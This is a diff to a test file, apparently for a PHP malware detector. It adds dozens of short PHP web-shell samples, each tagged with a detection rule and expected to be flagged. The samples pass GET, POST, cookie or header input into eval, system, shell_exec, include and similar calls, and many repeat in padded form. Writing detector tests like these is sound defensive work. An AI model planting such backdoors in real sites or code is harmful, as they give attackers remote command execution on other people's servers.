@@ -928,6 +928,203 @@ CASES: list[tuple[str, bytes, bool]] = [
         b"<?php foreach (getallheaders() as $n => $v) { if ($n == 'X-E') { eval($v); } }\n",
         True,
     ),
+    # --- second batch (written after the first widening; see /work/notes/issue-4k.md) ---
+    (
+        "SPAMGEAR_INPUT_SmallInputAndSink",
+        b"<?php $pw = $_POST['pw']; $cmd = $_POST['cmd']; if ($pw == 'letmein') { echo '<pre>'; system($cmd); }\n",
+        True,
+    ),
+    (
+        "SPAMGEAR_INPUT_AdjacentInputToSink",
+        b"<?php $code = $_COOKIE['c']; $code = base64_decode($code); @eval($code);\n",
+        True,
+    ),
+    (
+        "SPAMGEAR_INPUT_AdjacentInputToSink",
+        b"<?php $a = $_SERVER['HTTP_X_A']; $b = $_SERVER['HTTP_X_B']; @$a($b);\n",
+        True,
+    ),
+    (
+        "SPAMGEAR_INPUT_AdjacentInputToSink",
+        b"<?php $r = $_REQUEST; $cmd = $r['cmd']; echo shell_exec($cmd);\n",
+        True,
+    ),
+    (
+        "SPAMGEAR_INPUT_AdjacentInputToSink",
+        b"<?php\n$data = $_POST['data'];\n$data = gzinflate(base64_decode($data));\neval($data);\n",
+        True,
+    ),
+    ("SPAMGEAR_INPUT_AdjacentInputToSink", b"<?php $x = @$_GET['x']; @assert(\"$x\");\n", True),
+    (
+        "SPAMGEAR_INPUT_AdjacentInputToSink",
+        b"<?php $p = $_POST['p']; $h = popen($p, 'r'); echo fread($h, 4096);\n",
+        True,
+    ),
+    (
+        "SPAMGEAR_INPUT_AdjacentInputToSink",
+        b"<?php $cmd = trim($_GET['cmd']); $out = shell_exec($cmd . ' 2>&1'); echo htmlspecialchars($out);\n",
+        True,
+    ),
+    (
+        "SPAMGEAR_INPUT_AdjacentInputToSink",
+        b"<?php $f = $_REQUEST['f']; $a = $_REQUEST['a']; call_user_func($f, $a);\n",
+        True,
+    ),
+    (
+        "SPAMGEAR_EVASION_ArglessLambdaOfInputScript",
+        b"<?php $e = $_POST['e']; $fn = create_function('', $e); $fn();\n",
+        True,
+    ),
+    ("SPAMGEAR_INPUT_CapitalisedSinkOfInput", b"<?php Passthru($_POST['c']);\n", True),
+    ("SPAMGEAR_INPUT_CapitalisedSinkOfInput", b"<?php SHELL_EXEC($_GET['c']);\n", True),
+    (
+        "SPAMGEAR_INPUT_SuperglobalNameInVariable",
+        b"<?php $k = '_COOKIE'; @eval(base64_decode(${$k}['p']));\n",
+        True,
+    ),
+    (
+        "SPAMGEAR_OBFUSC_ConcatSinkName",
+        b"<?php $s = 'sh' . 'ell' . '_ex' . 'ec'; echo $s($_POST['c']);\n",
+        True,
+    ),
+    (
+        "SPAMGEAR_INPUT_AdjacentInputToSink",
+        b"<?php $z = $_GET['z']; $z = str_rot13($z); $z = strrev($z); system($z);\n",
+        True,
+    ),
+    ("SPAMGEAR_INPUT_IncludeOfInput", b"<?php @include_once(base64_decode($_REQUEST['i']));\n", True),
+    ("SPAMGEAR_INPUT_IncludeOfInput", b"<?php require stripslashes($_COOKIE['r']);\n", True),
+    ("SPAMGEAR_INPUT_AdjacentInputToSink", b"<?php extract($_GET); $f($c);\n", True),
+    ("SPAMGEAR_INPUT_AdjacentInputToSink", b"<?php $v = $_POST; $v['f']($v['a'], $v['b']);\n", True),
+    (
+        "SPAMGEAR_INPUT_AdjacentInputToSink",
+        b"<?php $b = file_get_contents('php://input'); $b = base64_decode($b); eval($b);\n",
+        True,
+    ),
+    (
+        "SPAMGEAR_INPUT_AdjacentInputToSink",
+        b"<?php $u = $_GET['u']; $n = $_GET['n']; file_put_contents($n, file_get_contents($u));\n",
+        True,
+    ),
+    (
+        "SPAMGEAR_INPUT_AdjacentInputToSink",
+        b"<?php $t = $_POST['t']; $c = $_POST['c']; $f = fopen($t, 'w'); fwrite($f, $c); fclose($f);\n",
+        True,
+    ),
+    (
+        "SPAMGEAR_INPUT_AdjacentInputToSink",
+        b"<?php $c = $_GET['c']; $p = proc_open($c, array(1 => array('pipe', 'w')), $io); echo stream_get_contents($io[1]);\n",
+        True,
+    ),
+    (
+        "SPAMGEAR_INPUT_SmallInputAndSink",
+        b"<?php $m = $_GET; if (isset($m['c'])) { $c = $m['c']; passthru($c); }\n",
+        True,
+    ),
+    (
+        "SPAMGEAR_EVASION_HeaderToSinkTiny",
+        b"<?php $q = @$_SERVER['HTTP_USER_AGENT']; if (strpos($q, 'Xk9') !== false) { eval(substr($q, 3)); }\n",
+        True,
+    ),
+    ("SPAMGEAR_INPUT_InputAsFunction", b"<?php array_map($_POST['f'], (array) $_POST['a']);\n", True),
+    ("SPAMGEAR_INPUT_AdjacentInputToSink", b"<?php $x = $_REQUEST['x']; echo `$x 2>&1`;\n", True),
+    (
+        "SPAMGEAR_INPUT_AdjacentInputToSink",
+        b"<?php $c = $_POST['c']; exec($c, $o, $r); echo implode(PHP_EOL, $o);\n",
+        True,
+    ),
+    ("SPAMGEAR_INPUT_InputNamedArglessCall", b"<?php $f = $_GET['f'] ?: 'phpinfo'; $f();\n", True),
+    ("SPAMGEAR_INPUT_AdjacentInputToSink", b"<?php parse_str($_POST['q'], $v); $v['f']($v['a']);\n", True),
+    (
+        "SPAMGEAR_INPUT_AdjacentInputToSink",
+        padded("<?php $code = $_COOKIE['c']; $code = base64_decode($code); @eval($code);\n"),
+        True,
+    ),
+    (
+        "SPAMGEAR_INPUT_AdjacentInputToSink",
+        padded("<?php $a = $_SERVER['HTTP_X_A']; $b = $_SERVER['HTTP_X_B']; @$a($b);\n"),
+        True,
+    ),
+    (
+        "SPAMGEAR_INPUT_AdjacentInputToSink",
+        padded("<?php $r = $_REQUEST; $cmd = $r['cmd']; echo shell_exec($cmd);\n"),
+        True,
+    ),
+    (
+        "SPAMGEAR_INPUT_AdjacentInputToSink",
+        padded("<?php\n$data = $_POST['data'];\n$data = gzinflate(base64_decode($data));\neval($data);\n"),
+        True,
+    ),
+    ("SPAMGEAR_INPUT_AdjacentInputToSink", padded("<?php $x = @$_GET['x']; @assert(\"$x\");\n"), True),
+    (
+        "SPAMGEAR_INPUT_AdjacentInputToSink",
+        padded("<?php $p = $_POST['p']; $h = popen($p, 'r'); echo fread($h, 4096);\n"),
+        True,
+    ),
+    (
+        "SPAMGEAR_INPUT_AdjacentInputToSink",
+        padded(
+            "<?php $cmd = trim($_GET['cmd']); $out = shell_exec($cmd . ' 2>&1'); echo htmlspecialchars($out);\n"
+        ),
+        True,
+    ),
+    (
+        "SPAMGEAR_INPUT_AdjacentInputToSink",
+        padded("<?php $f = $_REQUEST['f']; $a = $_REQUEST['a']; call_user_func($f, $a);\n"),
+        True,
+    ),
+    ("SPAMGEAR_INPUT_CapitalisedSinkOfInput", padded("<?php Passthru($_POST['c']);\n"), True),
+    ("SPAMGEAR_INPUT_CapitalisedSinkOfInput", padded("<?php SHELL_EXEC($_GET['c']);\n"), True),
+    (
+        "SPAMGEAR_OBFUSC_ConcatSinkName",
+        padded("<?php $s = 'sh' . 'ell' . '_ex' . 'ec'; echo $s($_POST['c']);\n"),
+        True,
+    ),
+    (
+        "SPAMGEAR_INPUT_AdjacentInputToSink",
+        padded("<?php $z = $_GET['z']; $z = str_rot13($z); $z = strrev($z); system($z);\n"),
+        True,
+    ),
+    ("SPAMGEAR_INPUT_IncludeOfInput", padded("<?php @include_once(base64_decode($_REQUEST['i']));\n"), True),
+    ("SPAMGEAR_INPUT_IncludeOfInput", padded("<?php require stripslashes($_COOKIE['r']);\n"), True),
+    ("SPAMGEAR_INPUT_AdjacentInputToSink", padded("<?php extract($_GET); $f($c);\n"), True),
+    ("SPAMGEAR_INPUT_AdjacentInputToSink", padded("<?php $v = $_POST; $v['f']($v['a'], $v['b']);\n"), True),
+    (
+        "SPAMGEAR_INPUT_AdjacentInputToSink",
+        padded("<?php $b = file_get_contents('php://input'); $b = base64_decode($b); eval($b);\n"),
+        True,
+    ),
+    (
+        "SPAMGEAR_INPUT_AdjacentInputToSink",
+        padded("<?php $u = $_GET['u']; $n = $_GET['n']; file_put_contents($n, file_get_contents($u));\n"),
+        True,
+    ),
+    (
+        "SPAMGEAR_INPUT_AdjacentInputToSink",
+        padded(
+            "<?php $t = $_POST['t']; $c = $_POST['c']; $f = fopen($t, 'w'); fwrite($f, $c); fclose($f);\n"
+        ),
+        True,
+    ),
+    (
+        "SPAMGEAR_INPUT_AdjacentInputToSink",
+        padded(
+            "<?php $c = $_GET['c']; $p = proc_open($c, array(1 => array('pipe', 'w')), $io); echo stream_get_contents($io[1]);\n"
+        ),
+        True,
+    ),
+    ("SPAMGEAR_INPUT_AdjacentInputToSink", padded("<?php $x = $_REQUEST['x']; echo `$x 2>&1`;\n"), True),
+    (
+        "SPAMGEAR_INPUT_AdjacentInputToSink",
+        padded("<?php $c = $_POST['c']; exec($c, $o, $r); echo implode(PHP_EOL, $o);\n"),
+        True,
+    ),
+    ("SPAMGEAR_INPUT_InputNamedArglessCall", padded("<?php $f = $_GET['f'] ?: 'phpinfo'; $f();\n"), True),
+    (
+        "SPAMGEAR_INPUT_AdjacentInputToSink",
+        padded("<?php parse_str($_POST['q'], $v); $v['f']($v['a']);\n"),
+        True,
+    ),
     # --- near misses for the rules added or widened by issue 4k ---
     (
         "SPAMGEAR_INPUT_AdjacentInputToSink",
